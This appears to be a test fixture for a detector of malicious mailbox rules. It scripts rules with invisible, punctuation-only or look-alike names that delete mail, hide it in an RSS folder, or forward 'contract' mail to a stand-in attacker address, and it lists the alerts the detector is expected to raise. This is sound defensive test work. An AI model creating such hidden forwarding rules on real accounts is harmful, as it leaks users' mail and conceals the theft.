# Names that are not there.
domain fabrikam.com
domain fabrikam.onmicrosoft.com
person amy "Amy Adams"
person bob "Bob Brown"
person cyd "Cyd Clark"

mon 09:00 amy makes rule "\u200b\u200b" when subject_contains "contract" delete
mon 09:00 bob makes rule ".." when subject_contains "contract" move to rssfeeds
mon 09:00 cyd makes rule "\u0410rchive" when subject_contains "contract" forward to eve@evil.example
expect obfuscated-name amy risk 45 says "\"\\u200b\\u200b\""
expect obfuscated-name bob risk 45 says "is nothing but punctuation"
expect hidden-folder bob
expect obfuscated-name cyd risk 60 says "looks like \"archive\""
expect forward-outside cyd
